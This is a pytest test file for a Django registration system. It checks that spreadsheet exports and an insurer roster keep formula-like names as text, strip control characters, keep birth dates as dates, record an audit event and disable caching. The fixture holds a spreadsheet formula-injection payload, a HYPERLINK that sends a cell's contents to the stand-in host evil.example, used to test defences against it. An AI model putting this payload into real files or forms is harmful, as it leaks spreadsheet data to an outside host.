"""The registrations export and the roster sent to the insurer: a relative's name typed as a
formula stays text, a control character in old data stops neither file, the birth date stays
a date, and every export is in the audit trail and never cached."""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from gonghui.core.models import AuditAction, AuditEvent
from gonghui.drives.choices import RegistrationChannel
from gonghui.drives.models import DriveRegistration
from gonghui.drives.services.registrations import registration_create
from gonghui.drives.services.roster import roster_content, roster_export_create
from gonghui.drives.tests.factories import TODAY, drive_make, relative_data

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture
def drive_with_relative(university):
    drive = drive_make()
    office = university.users["union_office"]
    relative = registration_create(
        drive=drive,
        person=university.zhang,
        actor=office,
        consent=True,
        on=TODAY,
        channel=RegistrationChannel.INDIVIDUAL,
        **relative_data(name=FORMULA),
    )
    return drive, office, relative


def _export(client, user, drive):
    client.force_login(user)
    return client.get(reverse("drives:registration_list", args=[drive.pk]), {"export": "xlsx", "status": ""})


def _row(sheet, first_cell):
    return next(row for row in sheet.iter_rows(min_row=2) if row[0].value == first_cell)


def test_registrations_export_keeps_a_formula_name_as_text(client, drive_with_relative):
    drive, office, relative = drive_with_relative
    response = _export(client, office, drive)
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == 2
    name, _relationship, staff, *_rest = sheet[2]
    assert (name.value, name.data_type) == ("'" + FORMULA, "s")
    assert staff.value == "张伟"
    birth = sheet[2][7]
    assert (birth.value, birth.data_type, birth.number_format) == (datetime.datetime(1982, 4, 3), "d", "yyyy-mm-dd")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_registrations_export_is_audited(client, drive_with_relative):
    drive, office, _relative = drive_with_relative
    before = AuditEvent.objects.count()
    _export(client, office, drive)
    assert AuditEvent.objects.count() == before + 1
    event = AuditEvent.objects.latest("id")
    assert (event.actor, event.action, event.object_type, event.object_id) == (
        office,
        AuditAction.EXPORTED,
        "drives.drive",
        str(drive.pk),
    )
    assert event.message == "导出报名名单（export=xlsx&status=）"


def test_insurer_roster_keeps_a_formula_name_as_text_and_numbers_as_numbers(drive_with_relative):
    drive, office, relative = drive_with_relative
    roster = roster_export_create(drive=drive, actor=office)
    sheet = load_workbook(io.BytesIO(roster_content(roster))).active
    seq, name, _kind, id_number, _gender, birth, *_rest = sheet[2]
    assert (seq.value, seq.data_type) == (1, "n")
    assert (name.value, name.data_type) == ("'" + FORMULA, "s")
    assert (id_number.value, id_number.data_type) == (relative.id_number_clear(), "s")
    assert (birth.value, birth.data_type) == (datetime.datetime(1982, 4, 3), "d")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_a_control_character_in_old_data_stops_neither_file(client, drive_with_relative):
    drive, office, relative = drive_with_relative
    # stored before input was cleaned (an update() skips save(), as old rows were written)
    DriveRegistration.objects.filter(pk=relative.pk).update(name="刘\x0b敏")
    assert DriveRegistration.objects.get(pk=relative.pk).name == "刘\x0b敏"

    response = _export(client, office, drive)
    assert response.status_code == 200
    assert load_workbook(io.BytesIO(response.content)).active["A2"].value == "刘敏"

    roster = roster_export_create(drive=drive, actor=office)
    assert (roster.line_count, load_workbook(io.BytesIO(roster_content(roster))).active["B2"].value) == (1, "刘敏")


def test_a_name_typed_with_a_control_character_is_stored_without_it(university):
    drive = drive_make()
    relative = registration_create(
        drive=drive,
        person=university.zhang,
        actor=university.users["union_office"],
        consent=True,
        on=TODAY,
        channel=RegistrationChannel.INDIVIDUAL,
        **relative_data(name="刘\x0b敏\t"),
    )
    assert DriveRegistration.objects.get(pk=relative.pk).name == "刘敏"
